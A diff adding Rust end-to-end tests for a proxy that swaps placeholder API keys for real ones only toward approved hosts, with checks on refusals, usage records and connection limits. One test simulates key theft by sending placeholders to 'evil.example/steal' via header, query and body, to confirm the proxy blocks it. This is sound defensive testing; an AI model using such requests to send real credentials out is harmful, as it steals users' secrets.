@@ -1,0 +1,363 @@
+//! End to end in one process, with real TLS on loopback: a stand-in upstream with its own CA
+//! (reached through the test-only override), the proxy, and reqwest as the client.
+
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use bytes::Bytes;
+use http::{Request, Response};
+use http_body_util::{BodyExt, Full};
+use hyper::body::Incoming;
+use hyper::service::service_fn;
+use hyper_util::rt::{TokioExecutor, TokioIo};
+use maestro_wire::SecretValue;
+use maestro_wire::agent_api::UsageAction;
+use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
+use rustls_pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
+
+use super::*;
+
+const OPENAI_P: &str = "sk-proj-PLACEHOLDERaaaaaaaaaaaaaaaaaaaa";
+const OPENAI_R: &str = "sk-proj-REALVALUEzzzzzzzzzzzzzzzzzzzzz";
+const AZURE_P: &str = "azPLACEHOLDERbbbbbbbbbbbbbbbb";
+const AZURE_R: &str = "azREALVALUE~yyyyyyyyyyyyyyyyy";
+
+/// What the stand-in upstream saw: one line per request, "host METHOD target" + headers + body.
+#[derive(Clone, Default)]
+struct Seen(Arc<Mutex<Vec<String>>>);
+
+impl Seen {
+    fn all(&self) -> String {
+        self.0.lock().unwrap().join("\n----\n")
+    }
+    fn count(&self) -> usize {
+        self.0.lock().unwrap().len()
+    }
+}
+
+struct Upstream {
+    addr: SocketAddr,
+    ca_pem: String,
+    seen: Seen,
+}
+
+/// The stand-in: TLS with a certificate for every test host from its own CA; echoes the
+/// request (target, headers, body) in its response body and the Authorization header back in
+/// a response header.
+async fn upstream() -> Upstream {
+    let ca_key = KeyPair::generate().unwrap();
+    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
+    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
+    let issuer = Issuer::new(ca_params, ca_key);
+    let key = KeyPair::generate().unwrap();
+    let params = CertificateParams::new(vec![
+        "api.openai.com".to_owned(),
+        "login.microsoftonline.com".to_owned(),
+        "evil.example".to_owned(),
+        "sts.amazonaws.com".to_owned(),
+    ])
+    .unwrap();
+    let cert = params.signed_by(&key, &issuer).unwrap();
+    let mut config = rustls::ServerConfig::builder()
+        .with_no_client_auth()
+        .with_single_cert(
+            vec![cert.der().clone(), CertificateDer::from(ca_cert.der().to_vec())],
+            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
+        )
+        .unwrap();
+    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let seen = Seen::default();
+    let seen2 = seen.clone();
+    tokio::spawn(async move {
+        loop {
+            let Ok((tcp, _)) = listener.accept().await else { return };
+            let acceptor = acceptor.clone();
+            let seen = seen2.clone();
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(tcp).await else { return };
+                let sni = tls.get_ref().1.server_name().unwrap_or("").to_owned();
+                let svc = service_fn(move |req: Request<Incoming>| {
+                    let seen = seen.clone();
+                    let sni = sni.clone();
+                    async move {
+                        let (parts, body) = req.into_parts();
+                        let body = body.collect().await.map(|b| b.to_bytes()).unwrap_or_default();
+                        let mut text = format!("{sni} {} {}\n", parts.method, parts.uri);
+                        for (k, v) in &parts.headers {
+                            text.push_str(&format!(
+                                "{k}: {}\n",
+                                String::from_utf8_lossy(v.as_bytes())
+                            ));
+                        }
+                        text.push_str(&String::from_utf8_lossy(&body));
+                        seen.0.lock().unwrap().push(text.clone());
+                        let mut resp = Response::new(Full::new(Bytes::from(text)));
+                        if let Some(a) = parts.headers.get("authorization") {
+                            resp.headers_mut().insert("x-echo-authorization", a.clone());
+                        }
+                        Ok::<_, std::convert::Infallible>(resp)
+                    }
+                });
+                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
+                    .serve_connection(TokioIo::new(tls), svc)
+                    .await;
+            });
+        }
+    });
+    Upstream { addr, ca_pem: ca_cert.pem(), seen }
+}
+
+struct Fixture {
+    up: Upstream,
+    proxy: ProxyHandle,
+    usage: Arc<UsageQueue>,
+}
+
+fn secrets() -> SealedSet {
+    SealedSet {
+        secrets: vec![
+            SealedSecret {
+                name: "OPENAI".into(),
+                hosts: vec!["api.openai.com".into()],
+                swaps: vec![Swap {
+                    placeholder: OPENAI_P.into(),
+                    real: SecretValue::from(OPENAI_R),
+                }],
+                sigv4: None,
+            },
+            SealedSecret {
+                name: "AZURE".into(),
+                hosts: vec!["login.microsoftonline.com".into()],
+                swaps: vec![Swap { placeholder: AZURE_P.into(), real: SecretValue::from(AZURE_R) }],
+                sigv4: None,
+            },
+        ],
+    }
+}
+
+async fn fixture_with(uids: Vec<u32>, limits: Limits) -> Fixture {
+    let up = upstream().await;
+    let usage = UsageQueue::new(1000);
+    let mut config = ProxyConfig::new(uids, usage.clone());
+    config.limits = limits;
+    config.test_only_upstreams = vec![
+        ("api.openai.com".into(), up.addr),
+        ("login.microsoftonline.com".into(), up.addr),
+        ("evil.example".into(), up.addr),
+        ("*.amazonaws.com".into(), up.addr),
+    ];
+    config.test_only_upstream_ca = Some(up.ca_pem.clone());
+    let proxy = Proxy::start(config).unwrap();
+    proxy.set(secrets()).unwrap();
+    Fixture { up, proxy, usage }
+}
+
+async fn fixture() -> Fixture {
+    fixture_with(vec![0, nix::unistd::geteuid().as_raw()], Limits::default()).await
+}
+
+fn client(f: &Fixture) -> reqwest::Client {
+    reqwest::Client::builder()
+        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
+        .add_root_certificate(reqwest::Certificate::from_pem(f.proxy.ca_pem().as_bytes()).unwrap())
+        .timeout(Duration::from_secs(30))
+        .build()
+        .unwrap()
+}
+
+fn records(f: &Fixture, action: UsageAction) -> Vec<maestro_wire::agent_api::UsageReport> {
+    f.usage.take(1000).into_iter().filter(|r| r.action == action).collect()
+}
+
+#[tokio::test]
+async fn bearer_and_query_are_substituted_and_the_echo_comes_back_with_the_placeholder() {
+    let f = fixture().await;
+    let c = client(&f);
+    let resp = c
+        .get(format!("https://api.openai.com/v1/models?key={OPENAI_P}"))
+        .bearer_auth(OPENAI_P)
+        .header("x-api-key", OPENAI_P)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    assert_eq!(resp.version(), http::Version::HTTP_2, "h2 between client and proxy");
+    let echoed_auth =
+        resp.headers().get("x-echo-authorization").unwrap().to_str().unwrap().to_owned();
+    let text = resp.text().await.unwrap();
+    // The upstream got the real value in the target and both headers...
+    let seen = f.up.seen.all();
+    assert!(seen.contains(&format!("/v1/models?key={OPENAI_R}")), "{seen}");
+    assert!(seen.contains(&format!("authorization: Bearer {OPENAI_R}")), "{seen}");
+    assert!(seen.contains(&format!("x-api-key: {OPENAI_R}")), "{seen}");
+    assert!(!seen.contains(OPENAI_P), "{seen}");
+    // ...and the client sees only placeholders, in the echoed body and header.
+    assert!(!text.contains(OPENAI_R) && text.contains(OPENAI_P), "{text}");
+    assert_eq!(echoed_auth, format!("Bearer {OPENAI_P}"));
+    let used = records(&f, UsageAction::Substituted);
+    assert_eq!(used.len(), 1);
+    assert_eq!(used[0].secret.as_deref(), Some("OPENAI"));
+    assert_eq!(used[0].detail.as_deref(), Some("GET api.openai.com/v1/models"));
+    assert_eq!(used[0].uid, Some(nix::unistd::geteuid().as_raw()));
+    assert_eq!(used[0].pid, Some(std::process::id()));
+}
+
+#[tokio::test]
+async fn basic_auth_and_form_body_are_substituted_over_http1() {
+    let f = fixture().await;
+    let c = reqwest::Client::builder()
+        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
+        .add_root_certificate(reqwest::Certificate::from_pem(f.proxy.ca_pem().as_bytes()).unwrap())
+        .http1_only()
+        .build()
+        .unwrap();
+    let body = format!("grant_type=client_credentials&client_id=app&client_secret={AZURE_P}");
+    let resp = c
+        .post("https://login.microsoftonline.com/tenant/oauth2/v2.0/token")
+        .basic_auth("app", Some(AZURE_P))
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(body)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    assert_eq!(resp.version(), http::Version::HTTP_11);
+    let text = resp.text().await.unwrap();
+    let seen = f.up.seen.all();
+    assert!(seen.contains(&format!("client_secret={AZURE_R}")), "{seen}");
+    use base64::Engine;
+    let basic = base64::engine::general_purpose::STANDARD.encode(format!("app:{AZURE_R}"));
+    assert!(seen.contains(&format!("authorization: Basic {basic}")), "{seen}");
+    assert!(!text.contains(AZURE_R), "{text}");
+    assert!(text.contains(&format!("client_secret={AZURE_P}")), "{text}");
+}
+
+#[tokio::test]
+async fn a_placeholder_towards_another_host_is_refused_and_recorded_and_never_sent() {
+    let f = fixture().await;
+    let c = client(&f);
+    for (req, place) in [
+        (c.get("https://evil.example/steal").bearer_auth(OPENAI_P), "authorization header"),
+        (c.get(format!("https://evil.example/steal?k={OPENAI_P}")), "request target"),
+        (
+            c.post("https://evil.example/steal")
+                .header("content-type", "application/octet-stream")
+                .body(format!("xx{OPENAI_P}yy")),
+            "the body",
+        ),
+        (c.get("https://api.openai.com/x").bearer_auth(AZURE_P), "authorization header"),
+    ] {
+        let resp = req.send().await;
+        match resp {
+            Ok(r) => {
+                assert_eq!(r.status(), 403, "{place}");
+                let text = r.text().await.unwrap();
+                assert!(text.contains("refused") && text.contains("recorded"), "{text}");
+            }
+            // A streamed body is cut off mid-way: the request fails.
+            Err(e) => assert_eq!(place, "the body", "{e}"),
+        }
+    }
+    let seen = f.up.seen.all();
+    assert!(!seen.contains(OPENAI_R) && !seen.contains(AZURE_R), "{seen}");
+    assert!(!seen.contains(OPENAI_P) && !seen.contains(AZURE_P), "{seen}");
+    // Only the streamed body started towards the other host, and was cut off before the
+    // placeholder (its first bytes may have arrived).
+    assert!(f.up.seen.count() <= 1, "{seen}");
+    let leaks = records(&f, UsageAction::LeakAttempt);
+    assert_eq!(leaks.len(), 4, "{leaks:?}");
+    assert!(leaks.iter().any(|l| l.secret.as_deref() == Some("AZURE")));
+    assert!(leaks.iter().all(|l| !l.detail.as_deref().unwrap_or("").contains('?')));
+}
+
+#[tokio::test]
+async fn after_an_empty_set_the_next_request_carries_no_real_value() {
+    let f = fixture().await;
+    let c = client(&f);
+    let r = c.get("https://api.openai.com/a").bearer_auth(OPENAI_P).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    assert!(f.up.seen.all().contains(OPENAI_R));
+    f.proxy.set(SealedSet::default()).unwrap();
+    let before = f.up.seen.count();
+    // Same kept-alive connection, then a new client (a plain tunnel now).
+    let r = c.get("https://api.openai.com/b").bearer_auth(OPENAI_P).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let fresh = reqwest::Client::builder()
+        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
+        .add_root_certificate(reqwest::Certificate::from_pem(f.up.ca_pem.as_bytes()).unwrap())
+        .build()
+        .unwrap();
+    let r = fresh.get("https://api.openai.com/c").bearer_auth(OPENAI_P).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let seen = f.up.seen.0.lock().unwrap()[before..].join("\n");
+    assert!(seen.contains("/b") && seen.contains("/c"), "{seen}");
+    assert!(!seen.contains(OPENAI_R), "{seen}");
+}
+
+#[tokio::test]
+async fn plain_http_with_a_placeholder_is_refused_even_to_its_own_host() {
+    let f = fixture().await;
+    let c = client(&f);
+    let r = c.get("http://api.openai.com/v1").bearer_auth(OPENAI_P).send().await.unwrap();
+    assert_eq!(r.status(), 403);
+    assert!(r.text().await.unwrap().contains("plain http"));
+    assert_eq!(f.up.seen.count(), 0);
+    assert_eq!(records(&f, UsageAction::LeakAttempt).len(), 1);
+}
+
+#[tokio::test]
+async fn a_uid_that_is_not_allowed_is_refused_and_recorded() {
+    let f = fixture_with(vec![54321], Limits::default()).await;
+    let c = client(&f);
+    let r = c.get("http://api.openai.com/v1").send().await.unwrap();
+    assert_eq!(r.status(), 403);
+    assert!(r.text().await.unwrap().contains("may not use this proxy"));
+    let denied = records(&f, UsageAction::Denied);
+    assert_eq!(denied.len(), 1);
+    assert_eq!(denied[0].uid, Some(nix::unistd::geteuid().as_raw()));
+    assert_eq!(f.up.seen.count(), 0);
+}
+
+#[tokio::test]
+async fn oversized_headers_and_connection_floods_are_bounded() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let limits =
+        Limits { max_connections_per_uid: 4, max_header_bytes: 16 * 1024, ..Limits::default() };
+    let f = fixture_with(vec![0, nix::unistd::geteuid().as_raw()], limits).await;
+    let addr = f.proxy.local_addr();
+    // A header far over the limit: refused (431 or the connection closed), never forwarded.
+    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
+    let big = "a".repeat(200 * 1024);
+    let req = format!(
+        "GET http://api.openai.com/ HTTP/1.1\r\nhost: api.openai.com\r\nx-big: {big}\r\n\r\n"
+    );
+    let _ = s.write_all(req.as_bytes()).await;
+    let mut out = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await;
+    let head = String::from_utf8_lossy(&out);
+    assert!(out.is_empty() || head.starts_with("HTTP/1.1 431"), "{head}");
+    drop(s);
+    // Four open connections of one uid, then the fifth is refused.
+    let mut held = Vec::new();
+    for _ in 0..4 {
+        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
+        // One byte so that the proxy has surely accepted and counted it.
+        s.write_all(b"G").await.unwrap();
+        held.push(s);
+    }
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let mut fifth = tokio::net::TcpStream::connect(addr).await.unwrap();
+    let mut out = Vec::new();
+    tokio::time::timeout(Duration::from_secs(10), fifth.read_to_end(&mut out))
+        .await
+        .unwrap()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 503"));
+    drop(held);
+    assert_eq!(f.up.seen.count(), 0);
+}
